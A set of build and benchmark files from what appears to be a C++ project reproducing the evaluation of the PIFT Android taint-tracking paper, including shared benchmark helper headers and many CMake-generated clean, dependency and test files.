 * parallel-scaling benches (keep the two reporting identically).
 */
template <typename Fn>
Timed
timedRun(uint64_t events, Fn &&fn)
{
    auto t0 = std::chrono::steady_clock::now();
    fn();
    Timed t;
    t.wall_ms = std::chrono::duration<double, std::milli>(
                    std::chrono::steady_clock::now() - t0)
                    .count();
    t.events_per_sec = t.wall_ms > 0.0
        ? 1000.0 * static_cast<double>(events) / t.wall_ms
        : 0.0;
    return t;
}

/** Standard bench banner. */
inline void
banner(const char *what, const char *paper_ref)
{
    std::printf("================================================="
                "=============\n");
    std::printf("PIFT reproduction: %s\n", what);
    std::printf("Paper reference: %s\n", paper_ref);
    std::printf("================================================="
                "=============\n");
}

/** Banner plus a telemetry span covering the whole bench run. */
class Phase
{
  public:
    Phase(const char *what, const char *paper_ref)
        : span(std::string("bench:") + what, "bench")
    {
        banner(what, paper_ref);
    }

  private:
    telemetry::Span span;
};

/**
 * Replay @p trace over the NT x NI grid, mapping each replay through
 * @p metric (an OverheadResult projection) into a heat map — the
 * shared core of the Figure 14/17 benches.
 */
template <typename MetricFn>
stats::HeatMap
overheadGrid(const sim::Trace &trace, int nt_hi, int ni_hi,
             MetricFn metric)
{
    telemetry::Span span("bench:overhead_grid", "bench");
    stats::HeatMap map("NT", 1, nt_hi, "NI", 1, ni_hi);
    for (int nt = 1; nt <= nt_hi; ++nt) {
        for (int ni = 1; ni <= ni_hi; ++ni) {
            core::PiftParams p;
            p.ni = static_cast<unsigned>(ni);
            p.nt = static_cast<unsigned>(nt);
            map.set(nt, ni, static_cast<double>(
                                metric(analysis::measureOverhead(
                                    trace, p))));
        }
    }
    return map;
}

/** One row of an untainting-on/off comparison (Figures 18/19). */
struct UntaintRow
{
    unsigned ni = 0;
    uint64_t with_untaint = 0;
    uint64_t without_untaint = 0;

    double
    ratio() const
    {
        return with_untaint
            ? static_cast<double>(without_untaint) /
                static_cast<double>(with_untaint)
            : 0.0;
    }
};

/**
 * Replay @p trace with untainting on and off at NT = @p nt for each
 * NI in @p nis, projecting each replay through @p metric.
 */
template <typename MetricFn>
std::vector<UntaintRow>
untaintComparison(const sim::Trace &trace,
                  std::initializer_list<unsigned> nis, unsigned nt,
                  MetricFn metric)
{
    telemetry::Span span("bench:untaint_comparison", "bench");
    std::vector<UntaintRow> rows;
    for (unsigned ni : nis) {
        core::PiftParams p;
        p.ni = ni;
        p.nt = nt;
        p.untaint = true;
        UntaintRow row;
        row.ni = ni;
        row.with_untaint = metric(analysis::measureOverhead(trace, p));
        p.untaint = false;
        row.without_untaint =
            metric(analysis::measureOverhead(trace, p));
        rows.push_back(row);
    }
    return rows;
}

/** Print an untainting comparison in the Figure 18/19 table shape. */
inline void
printUntaintTable(const std::vector<UntaintRow> &rows, unsigned nt)
{
    std::printf("%-14s %16s %18s %8s\n", "window", "with untainting",
                "without untainting", "ratio");
    for (const UntaintRow &row : rows)
        std::printf("NI=%-2u NT=%u     %16llu %18llu %7.1fx\n",
                    row.ni, nt,
                    static_cast<unsigned long long>(row.with_untaint),
                    static_cast<unsigned long long>(
                        row.without_untaint),
                    row.ratio());
}

/** Labelled time series per (NI, NT) point (Figures 15/16). */
struct SeriesSweep
{
    std::vector<std::string> names;
    std::vector<stats::TimeSeries> series;
};

/**
 * Replay @p trace at every (ni, nt) in @p nis x @p nts, extracting
 * one time series per point via @p extract. @p per_point (may be
 * empty) sees each OverheadResult first — Figure 16 prints per-point
 * operation counts from it.
 */
template <typename ExtractFn, typename PerPointFn>
SeriesSweep
overheadSeriesSweep(const sim::Trace &trace,
                    std::initializer_list<unsigned> nts,
                    std::initializer_list<unsigned> nis,
                    ExtractFn extract, PerPointFn per_point)
{
    telemetry::Span span("bench:series_sweep", "bench");
    SeriesSweep sweep;
    for (unsigned nt : nts) {
        for (unsigned ni : nis) {
            core::PiftParams p;
            p.ni = ni;
            p.nt = nt;
            auto o = analysis::measureOverhead(trace, p);
            per_point(ni, nt, o);
            char label[32];
            std::snprintf(label, sizeof(label), "(%u;%u)", ni, nt);
            sweep.names.emplace_back(label);
            sweep.series.push_back(extract(std::move(o)));
        }
    }
    return sweep;
}

/** Render a series sweep with the shared pointer-vector dance. */
inline void
renderSeriesSweep(std::ostream &os, const char *title,
                  const SeriesSweep &sweep, SeqNum horizon,
                  int height = 25)
{
    std::vector<const stats::TimeSeries *> ptrs;
    ptrs.reserve(sweep.series.size());
    for (const auto &s : sweep.series)
        ptrs.push_back(&s);
    stats::renderTimeSeries(os, title, sweep.names, ptrs, horizon,
                            height);
}

} // namespace pift::benchx

#endif // PIFT_BENCH_COMMON_HH
