/**
 * @file
 * Shared plumbing for the figure/table reproduction benches: cached
 * app-suite captures and consistent headers. Every bench prints the
 * paper's rows/series and, where the paper states numbers, the
 * paper's value next to the measured one.
 */

#ifndef PIFT_BENCH_COMMON_HH
#define PIFT_BENCH_COMMON_HH

#include <cstdio>
#include <vector>

#include "analysis/evaluate.hh"
#include "droidbench/app.hh"
#include "support/logging.hh"

namespace pift::benchx
{

/** The LGRoot malware trace (captured once per process). */
inline const sim::Trace &
lgrootTrace()
{
    static const sim::Trace trace = [] {
        const auto &entry = droidbench::malwareApps().front();
        pift_assert(entry.name == "malware_lgroot",
                    "LGRoot must be the first malware entry");
        return droidbench::runApp(entry).trace;
    }();
    return trace;
}

/** Labelled traces of the full DroidBench suite (captured once). */
inline const std::vector<analysis::LabelledTrace> &
suiteTraces()
{
    static const std::vector<analysis::LabelledTrace> set = [] {
        std::vector<analysis::LabelledTrace> out;
        for (const auto &entry : droidbench::droidBenchApps()) {
            auto run = droidbench::runApp(entry);
            out.push_back({entry.name, entry.leaks,
                           std::move(run.trace)});
        }
        return out;
    }();
    return set;
}

/** Standard bench banner. */
inline void
banner(const char *what, const char *paper_ref)
{
    std::printf("================================================="
                "=============\n");
    std::printf("PIFT reproduction: %s\n", what);
    std::printf("Paper reference: %s\n", paper_ref);
    std::printf("================================================="
                "=============\n");
}

} // namespace pift::benchx

#endif // PIFT_BENCH_COMMON_HH
