file(REMOVE_RECURSE
  "CMakeFiles/bench_fig10_bytecode_frequency.dir/bench_fig10_bytecode_frequency.cc.o"
  "CMakeFiles/bench_fig10_bytecode_frequency.dir/bench_fig10_bytecode_frequency.cc.o.d"
  "bench_fig10_bytecode_frequency"
  "bench_fig10_bytecode_frequency.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig10_bytecode_frequency.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
