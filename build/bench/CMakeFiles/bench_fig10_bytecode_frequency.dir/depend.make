# Empty dependencies file for bench_fig10_bytecode_frequency.
# This may be replaced when dependencies are built.
