file(REMOVE_RECURSE
  "CMakeFiles/bench_fig11_accuracy_heatmap.dir/bench_fig11_accuracy_heatmap.cc.o"
  "CMakeFiles/bench_fig11_accuracy_heatmap.dir/bench_fig11_accuracy_heatmap.cc.o.d"
  "bench_fig11_accuracy_heatmap"
  "bench_fig11_accuracy_heatmap.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig11_accuracy_heatmap.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
