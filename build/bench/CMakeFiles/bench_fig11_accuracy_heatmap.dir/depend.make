# Empty dependencies file for bench_fig11_accuracy_heatmap.
# This may be replaced when dependencies are built.
