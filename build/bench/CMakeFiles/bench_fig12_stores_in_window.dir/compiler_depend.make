# Empty compiler generated dependencies file for bench_fig12_stores_in_window.
# This may be replaced when dependencies are built.
