file(REMOVE_RECURSE
  "CMakeFiles/bench_fig13_store_ranks.dir/bench_fig13_store_ranks.cc.o"
  "CMakeFiles/bench_fig13_store_ranks.dir/bench_fig13_store_ranks.cc.o.d"
  "bench_fig13_store_ranks"
  "bench_fig13_store_ranks.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig13_store_ranks.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
