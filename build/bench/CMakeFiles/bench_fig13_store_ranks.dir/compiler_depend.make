# Empty compiler generated dependencies file for bench_fig13_store_ranks.
# This may be replaced when dependencies are built.
