file(REMOVE_RECURSE
  "CMakeFiles/bench_fig14_tainted_size_heatmap.dir/bench_fig14_tainted_size_heatmap.cc.o"
  "CMakeFiles/bench_fig14_tainted_size_heatmap.dir/bench_fig14_tainted_size_heatmap.cc.o.d"
  "bench_fig14_tainted_size_heatmap"
  "bench_fig14_tainted_size_heatmap.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig14_tainted_size_heatmap.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
