# Empty compiler generated dependencies file for bench_fig14_tainted_size_heatmap.
# This may be replaced when dependencies are built.
