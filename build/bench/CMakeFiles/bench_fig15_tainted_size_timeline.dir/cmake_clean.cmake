file(REMOVE_RECURSE
  "CMakeFiles/bench_fig15_tainted_size_timeline.dir/bench_fig15_tainted_size_timeline.cc.o"
  "CMakeFiles/bench_fig15_tainted_size_timeline.dir/bench_fig15_tainted_size_timeline.cc.o.d"
  "bench_fig15_tainted_size_timeline"
  "bench_fig15_tainted_size_timeline.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig15_tainted_size_timeline.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
