# Empty dependencies file for bench_fig15_tainted_size_timeline.
# This may be replaced when dependencies are built.
