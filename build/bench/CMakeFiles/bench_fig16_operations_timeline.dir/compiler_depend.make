# Empty compiler generated dependencies file for bench_fig16_operations_timeline.
# This may be replaced when dependencies are built.
