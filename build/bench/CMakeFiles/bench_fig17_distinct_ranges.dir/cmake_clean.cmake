file(REMOVE_RECURSE
  "CMakeFiles/bench_fig17_distinct_ranges.dir/bench_fig17_distinct_ranges.cc.o"
  "CMakeFiles/bench_fig17_distinct_ranges.dir/bench_fig17_distinct_ranges.cc.o.d"
  "bench_fig17_distinct_ranges"
  "bench_fig17_distinct_ranges.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig17_distinct_ranges.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
