# Empty dependencies file for bench_fig17_distinct_ranges.
# This may be replaced when dependencies are built.
