# Empty dependencies file for bench_fig18_untainting_size.
# This may be replaced when dependencies are built.
