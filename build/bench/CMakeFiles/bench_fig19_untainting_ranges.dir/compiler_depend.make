# Empty compiler generated dependencies file for bench_fig19_untainting_ranges.
# This may be replaced when dependencies are built.
