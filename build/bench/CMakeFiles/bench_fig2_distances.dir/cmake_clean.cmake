file(REMOVE_RECURSE
  "CMakeFiles/bench_fig2_distances.dir/bench_fig2_distances.cc.o"
  "CMakeFiles/bench_fig2_distances.dir/bench_fig2_distances.cc.o.d"
  "bench_fig2_distances"
  "bench_fig2_distances.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig2_distances.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
