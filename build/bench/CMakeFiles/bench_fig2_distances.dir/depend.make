# Empty dependencies file for bench_fig2_distances.
# This may be replaced when dependencies are built.
