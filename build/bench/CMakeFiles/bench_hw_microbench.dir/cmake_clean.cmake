file(REMOVE_RECURSE
  "CMakeFiles/bench_hw_microbench.dir/bench_hw_microbench.cc.o"
  "CMakeFiles/bench_hw_microbench.dir/bench_hw_microbench.cc.o.d"
  "bench_hw_microbench"
  "bench_hw_microbench.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_hw_microbench.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
