# Empty compiler generated dependencies file for bench_hw_microbench.
# This may be replaced when dependencies are built.
