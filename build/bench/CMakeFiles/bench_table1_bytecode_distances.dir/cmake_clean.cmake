file(REMOVE_RECURSE
  "CMakeFiles/bench_table1_bytecode_distances.dir/bench_table1_bytecode_distances.cc.o"
  "CMakeFiles/bench_table1_bytecode_distances.dir/bench_table1_bytecode_distances.cc.o.d"
  "bench_table1_bytecode_distances"
  "bench_table1_bytecode_distances.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table1_bytecode_distances.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
