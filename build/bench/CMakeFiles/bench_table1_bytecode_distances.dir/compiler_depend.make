# Empty compiler generated dependencies file for bench_table1_bytecode_distances.
# This may be replaced when dependencies are built.
