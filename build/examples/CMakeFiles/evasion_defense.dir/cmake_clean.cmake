file(REMOVE_RECURSE
  "CMakeFiles/evasion_defense.dir/evasion_defense.cpp.o"
  "CMakeFiles/evasion_defense.dir/evasion_defense.cpp.o.d"
  "evasion_defense"
  "evasion_defense.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/evasion_defense.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
