# Empty dependencies file for evasion_defense.
# This may be replaced when dependencies are built.
