file(REMOVE_RECURSE
  "CMakeFiles/leak_detection.dir/leak_detection.cpp.o"
  "CMakeFiles/leak_detection.dir/leak_detection.cpp.o.d"
  "leak_detection"
  "leak_detection.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/leak_detection.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
