# Empty dependencies file for leak_detection.
# This may be replaced when dependencies are built.
