file(REMOVE_RECURSE
  "CMakeFiles/pift_cli.dir/pift_cli.cpp.o"
  "CMakeFiles/pift_cli.dir/pift_cli.cpp.o.d"
  "pift_cli"
  "pift_cli.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_cli.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
