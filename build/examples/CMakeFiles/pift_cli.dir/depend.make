# Empty dependencies file for pift_cli.
# This may be replaced when dependencies are built.
