file(REMOVE_RECURSE
  "CMakeFiles/window_tuning.dir/window_tuning.cpp.o"
  "CMakeFiles/window_tuning.dir/window_tuning.cpp.o.d"
  "window_tuning"
  "window_tuning.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/window_tuning.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
