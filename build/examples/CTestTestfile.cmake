# CMake generated Testfile for 
# Source directory: /root/repo/examples
# Build directory: /root/repo/build/examples
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
add_test(example_quickstart "/root/repo/build/examples/quickstart")
set_tests_properties(example_quickstart PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;18;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_leak_detection "/root/repo/build/examples/leak_detection")
set_tests_properties(example_leak_detection PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;19;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_window_tuning "/root/repo/build/examples/window_tuning")
set_tests_properties(example_window_tuning PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;20;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_evasion_defense "/root/repo/build/examples/evasion_defense")
set_tests_properties(example_evasion_defense PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;21;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_cli_list "/root/repo/build/examples/pift_cli" "list")
set_tests_properties(example_cli_list PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;22;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_cli_run "/root/repo/build/examples/pift_cli" "run" "PaperExample_ConcatChain_Sms" "13" "3")
set_tests_properties(example_cli_run PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;23;add_test;/root/repo/examples/CMakeLists.txt;0;")
add_test(example_trace_inspector "/root/repo/build/examples/trace_inspector" "/root/repo/build/lgroot_example.trace")
set_tests_properties(example_trace_inspector PROPERTIES  _BACKTRACE_TRIPLES "/root/repo/examples/CMakeLists.txt;25;add_test;/root/repo/examples/CMakeLists.txt;0;")
