# CMake generated Testfile for 
# Source directory: /root/repo/src
# Build directory: /root/repo/build/src
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
subdirs("support")
subdirs("stats")
subdirs("isa")
subdirs("mem")
subdirs("sim")
subdirs("taint")
subdirs("compiler")
subdirs("core")
subdirs("baseline")
subdirs("dalvik")
subdirs("runtime")
subdirs("android")
subdirs("droidbench")
subdirs("analysis")
