file(REMOVE_RECURSE
  "CMakeFiles/pift_analysis.dir/census.cc.o"
  "CMakeFiles/pift_analysis.dir/census.cc.o.d"
  "CMakeFiles/pift_analysis.dir/evaluate.cc.o"
  "CMakeFiles/pift_analysis.dir/evaluate.cc.o.d"
  "CMakeFiles/pift_analysis.dir/profiler.cc.o"
  "CMakeFiles/pift_analysis.dir/profiler.cc.o.d"
  "libpift_analysis.a"
  "libpift_analysis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_analysis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
