file(REMOVE_RECURSE
  "libpift_analysis.a"
)
