# Empty dependencies file for pift_analysis.
# This may be replaced when dependencies are built.
