file(REMOVE_RECURSE
  "CMakeFiles/pift_android.dir/framework.cc.o"
  "CMakeFiles/pift_android.dir/framework.cc.o.d"
  "CMakeFiles/pift_android.dir/pift_stack.cc.o"
  "CMakeFiles/pift_android.dir/pift_stack.cc.o.d"
  "libpift_android.a"
  "libpift_android.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_android.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
