file(REMOVE_RECURSE
  "libpift_android.a"
)
