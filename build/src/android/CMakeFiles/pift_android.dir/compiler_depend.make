# Empty compiler generated dependencies file for pift_android.
# This may be replaced when dependencies are built.
