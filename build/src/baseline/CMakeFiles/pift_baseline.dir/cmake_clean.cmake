file(REMOVE_RECURSE
  "CMakeFiles/pift_baseline.dir/full_tracker.cc.o"
  "CMakeFiles/pift_baseline.dir/full_tracker.cc.o.d"
  "libpift_baseline.a"
  "libpift_baseline.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_baseline.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
