file(REMOVE_RECURSE
  "libpift_baseline.a"
)
