# Empty compiler generated dependencies file for pift_baseline.
# This may be replaced when dependencies are built.
