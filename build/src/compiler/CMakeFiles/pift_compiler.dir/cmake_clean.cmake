file(REMOVE_RECURSE
  "CMakeFiles/pift_compiler.dir/scheduler.cc.o"
  "CMakeFiles/pift_compiler.dir/scheduler.cc.o.d"
  "libpift_compiler.a"
  "libpift_compiler.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_compiler.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
