file(REMOVE_RECURSE
  "libpift_compiler.a"
)
