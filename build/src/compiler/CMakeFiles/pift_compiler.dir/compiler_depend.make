# Empty compiler generated dependencies file for pift_compiler.
# This may be replaced when dependencies are built.
