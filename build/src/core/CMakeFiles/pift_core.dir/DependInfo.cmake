
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/core/hw_module.cc" "src/core/CMakeFiles/pift_core.dir/hw_module.cc.o" "gcc" "src/core/CMakeFiles/pift_core.dir/hw_module.cc.o.d"
  "/root/repo/src/core/pift_tracker.cc" "src/core/CMakeFiles/pift_core.dir/pift_tracker.cc.o" "gcc" "src/core/CMakeFiles/pift_core.dir/pift_tracker.cc.o.d"
  "/root/repo/src/core/taint_storage.cc" "src/core/CMakeFiles/pift_core.dir/taint_storage.cc.o" "gcc" "src/core/CMakeFiles/pift_core.dir/taint_storage.cc.o.d"
  "/root/repo/src/core/taint_store.cc" "src/core/CMakeFiles/pift_core.dir/taint_store.cc.o" "gcc" "src/core/CMakeFiles/pift_core.dir/taint_store.cc.o.d"
  "/root/repo/src/core/untagged_storage.cc" "src/core/CMakeFiles/pift_core.dir/untagged_storage.cc.o" "gcc" "src/core/CMakeFiles/pift_core.dir/untagged_storage.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/taint/CMakeFiles/pift_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/pift_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pift_support.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pift_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pift_mem.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
