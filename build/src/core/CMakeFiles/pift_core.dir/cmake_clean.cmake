file(REMOVE_RECURSE
  "CMakeFiles/pift_core.dir/hw_module.cc.o"
  "CMakeFiles/pift_core.dir/hw_module.cc.o.d"
  "CMakeFiles/pift_core.dir/pift_tracker.cc.o"
  "CMakeFiles/pift_core.dir/pift_tracker.cc.o.d"
  "CMakeFiles/pift_core.dir/taint_storage.cc.o"
  "CMakeFiles/pift_core.dir/taint_storage.cc.o.d"
  "CMakeFiles/pift_core.dir/taint_store.cc.o"
  "CMakeFiles/pift_core.dir/taint_store.cc.o.d"
  "CMakeFiles/pift_core.dir/untagged_storage.cc.o"
  "CMakeFiles/pift_core.dir/untagged_storage.cc.o.d"
  "libpift_core.a"
  "libpift_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
