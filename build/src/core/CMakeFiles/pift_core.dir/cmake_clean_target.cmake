file(REMOVE_RECURSE
  "libpift_core.a"
)
