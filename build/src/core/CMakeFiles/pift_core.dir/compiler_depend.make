# Empty compiler generated dependencies file for pift_core.
# This may be replaced when dependencies are built.
