
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/dalvik/bytecode.cc" "src/dalvik/CMakeFiles/pift_dalvik.dir/bytecode.cc.o" "gcc" "src/dalvik/CMakeFiles/pift_dalvik.dir/bytecode.cc.o.d"
  "/root/repo/src/dalvik/disasm.cc" "src/dalvik/CMakeFiles/pift_dalvik.dir/disasm.cc.o" "gcc" "src/dalvik/CMakeFiles/pift_dalvik.dir/disasm.cc.o.d"
  "/root/repo/src/dalvik/handlers.cc" "src/dalvik/CMakeFiles/pift_dalvik.dir/handlers.cc.o" "gcc" "src/dalvik/CMakeFiles/pift_dalvik.dir/handlers.cc.o.d"
  "/root/repo/src/dalvik/method.cc" "src/dalvik/CMakeFiles/pift_dalvik.dir/method.cc.o" "gcc" "src/dalvik/CMakeFiles/pift_dalvik.dir/method.cc.o.d"
  "/root/repo/src/dalvik/vm.cc" "src/dalvik/CMakeFiles/pift_dalvik.dir/vm.cc.o" "gcc" "src/dalvik/CMakeFiles/pift_dalvik.dir/vm.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/runtime/CMakeFiles/pift_runtime.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/pift_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pift_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pift_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pift_support.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/pift_taint.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
