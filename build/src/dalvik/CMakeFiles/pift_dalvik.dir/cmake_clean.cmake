file(REMOVE_RECURSE
  "CMakeFiles/pift_dalvik.dir/bytecode.cc.o"
  "CMakeFiles/pift_dalvik.dir/bytecode.cc.o.d"
  "CMakeFiles/pift_dalvik.dir/disasm.cc.o"
  "CMakeFiles/pift_dalvik.dir/disasm.cc.o.d"
  "CMakeFiles/pift_dalvik.dir/handlers.cc.o"
  "CMakeFiles/pift_dalvik.dir/handlers.cc.o.d"
  "CMakeFiles/pift_dalvik.dir/method.cc.o"
  "CMakeFiles/pift_dalvik.dir/method.cc.o.d"
  "CMakeFiles/pift_dalvik.dir/vm.cc.o"
  "CMakeFiles/pift_dalvik.dir/vm.cc.o.d"
  "libpift_dalvik.a"
  "libpift_dalvik.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_dalvik.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
