file(REMOVE_RECURSE
  "libpift_dalvik.a"
)
