# Empty compiler generated dependencies file for pift_dalvik.
# This may be replaced when dependencies are built.
