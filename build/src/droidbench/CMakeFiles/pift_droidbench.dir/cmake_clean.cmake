file(REMOVE_RECURSE
  "CMakeFiles/pift_droidbench.dir/app.cc.o"
  "CMakeFiles/pift_droidbench.dir/app.cc.o.d"
  "CMakeFiles/pift_droidbench.dir/apps_benign.cc.o"
  "CMakeFiles/pift_droidbench.dir/apps_benign.cc.o.d"
  "CMakeFiles/pift_droidbench.dir/apps_leaky.cc.o"
  "CMakeFiles/pift_droidbench.dir/apps_leaky.cc.o.d"
  "CMakeFiles/pift_droidbench.dir/helpers.cc.o"
  "CMakeFiles/pift_droidbench.dir/helpers.cc.o.d"
  "CMakeFiles/pift_droidbench.dir/malware.cc.o"
  "CMakeFiles/pift_droidbench.dir/malware.cc.o.d"
  "CMakeFiles/pift_droidbench.dir/registry.cc.o"
  "CMakeFiles/pift_droidbench.dir/registry.cc.o.d"
  "libpift_droidbench.a"
  "libpift_droidbench.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_droidbench.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
