file(REMOVE_RECURSE
  "libpift_droidbench.a"
)
