# Empty dependencies file for pift_droidbench.
# This may be replaced when dependencies are built.
