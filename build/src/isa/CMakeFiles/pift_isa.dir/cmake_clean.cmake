file(REMOVE_RECURSE
  "CMakeFiles/pift_isa.dir/assembler.cc.o"
  "CMakeFiles/pift_isa.dir/assembler.cc.o.d"
  "CMakeFiles/pift_isa.dir/disasm.cc.o"
  "CMakeFiles/pift_isa.dir/disasm.cc.o.d"
  "CMakeFiles/pift_isa.dir/inst.cc.o"
  "CMakeFiles/pift_isa.dir/inst.cc.o.d"
  "libpift_isa.a"
  "libpift_isa.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_isa.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
