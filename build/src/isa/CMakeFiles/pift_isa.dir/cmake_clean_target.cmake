file(REMOVE_RECURSE
  "libpift_isa.a"
)
