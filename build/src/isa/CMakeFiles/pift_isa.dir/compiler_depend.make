# Empty compiler generated dependencies file for pift_isa.
# This may be replaced when dependencies are built.
