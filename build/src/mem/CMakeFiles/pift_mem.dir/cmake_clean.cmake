file(REMOVE_RECURSE
  "CMakeFiles/pift_mem.dir/layout.cc.o"
  "CMakeFiles/pift_mem.dir/layout.cc.o.d"
  "CMakeFiles/pift_mem.dir/memory.cc.o"
  "CMakeFiles/pift_mem.dir/memory.cc.o.d"
  "libpift_mem.a"
  "libpift_mem.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_mem.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
