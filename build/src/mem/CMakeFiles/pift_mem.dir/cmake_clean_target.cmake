file(REMOVE_RECURSE
  "libpift_mem.a"
)
