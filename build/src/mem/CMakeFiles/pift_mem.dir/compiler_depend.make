# Empty compiler generated dependencies file for pift_mem.
# This may be replaced when dependencies are built.
