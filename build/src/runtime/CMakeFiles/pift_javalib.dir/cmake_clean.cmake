file(REMOVE_RECURSE
  "CMakeFiles/pift_javalib.dir/library.cc.o"
  "CMakeFiles/pift_javalib.dir/library.cc.o.d"
  "libpift_javalib.a"
  "libpift_javalib.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_javalib.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
