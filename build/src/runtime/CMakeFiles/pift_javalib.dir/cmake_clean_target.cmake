file(REMOVE_RECURSE
  "libpift_javalib.a"
)
