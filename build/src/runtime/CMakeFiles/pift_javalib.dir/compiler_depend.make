# Empty compiler generated dependencies file for pift_javalib.
# This may be replaced when dependencies are built.
