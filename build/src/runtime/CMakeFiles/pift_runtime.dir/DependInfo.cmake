
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
